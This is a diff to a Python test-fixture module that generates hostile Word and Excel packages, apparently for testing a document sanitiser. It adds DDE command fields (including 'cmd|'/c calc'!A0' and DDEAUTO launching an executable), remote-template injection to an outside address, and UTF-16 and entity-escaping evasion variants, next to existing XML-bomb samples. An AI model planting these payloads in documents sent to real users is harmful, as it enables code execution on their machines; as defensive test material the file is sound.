@@ -48,11 +48,14 @@ def relations(*entries: str) -> str:
     return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(found)}</Relationships>'
 
 
-def docx(body: str = "<w:p/>", *extra: object, main: str = "wordprocessingml.document.main+xml", raw: bytes | None = None) -> bytes:
-    """Return a Word file of a body and further parts."""
+WORD = "wordprocessingml.document.main+xml"
+
+
+def docx(body: str = "<w:p/>", *extra: object, main: str = WORD, raw: bytes | None = None, code: str = "utf-8") -> bytes:
+    """Return a Word file of a body and further parts, its list of content types written in ``code``."""
     document = raw if raw is not None else f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'.encode()
     listed = [
-        C.Part("[Content_Types].xml", types(main).encode()),
+        C.Part("[Content_Types].xml", types(main).encode(code)),
         C.Part("_rels/.rels", relations("r1 officeDocument word/document.xml").encode()),
         C.Part("word/document.xml", document),
     ]
@@ -181,6 +184,7 @@ def packages() -> dict[str, Maker]:
 def parts() -> dict[str, Maker]:
     """Return packages with hostile XML or forbidden parts."""
     main = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    elsewhere = relations("r1 attachedTemplate http://192.0.2.1/t.dotm External")
     return {
         "laughs.docx": lambda: docx(raw=dtd(laughs(), "&a9;")),
         "laughs.xlsx": lambda: xlsx(raw=f'<!DOCTYPE x [{laughs()}]><worksheet xmlns="{S}"><sheetData/></worksheet>'.encode()),
@@ -229,6 +233,15 @@ def parts() -> dict[str, Maker]:
         ),
         "dde.docx": lambda: docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p>"),
         "dde-split.docx": lambda: docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>"),
+        "dde-simple.docx": lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:p>'),
+        "dde-head.docx": lambda: docx(
+            "<w:p/>", added("word/header1.xml", f'<w:hdr xmlns:w="{W}"><w:instrText>DDE x</w:instrText></w:hdr>')
+        ),
+        "template-utf16.docx": lambda: docx("<w:p/>", C.Part("word/_rels/settings.xml.rels", elsewhere.encode("utf-16"))),
+        "template-escaped.docx": lambda: docx(
+            "<w:p/>", added("word/_rels/settings.xml.rels", elsewhere.replace("External", "&#69;xternal"))
+        ),
+        "macro-utf16.docx": lambda: docx("<w:p/>", C.Part("word/a.bin", noise(2_000)), main=main, code="utf-16"),
     }
 
 
@@ -237,6 +250,13 @@ def sheets() -> dict[str, Maker]:
     style = '<styleSheet xmlns="{}"><numFmts><numFmt numFmtId="200" formatCode="{}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
     boundless = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' + "</mergeCells>"
     return {
+        "dde.xlsx": lambda: xlsx("<row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row>"),
+        "dde-link.xlsx": lambda: xlsx(
+            "",
+            added(
+                "xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
+            ),
+        ),
         "far-cell.xlsx": lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'),
         "million-rows.xlsx": lambda: xlsx(
             "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 104729}</v></c></row>' for n in range(1, 1_048_577, 9))
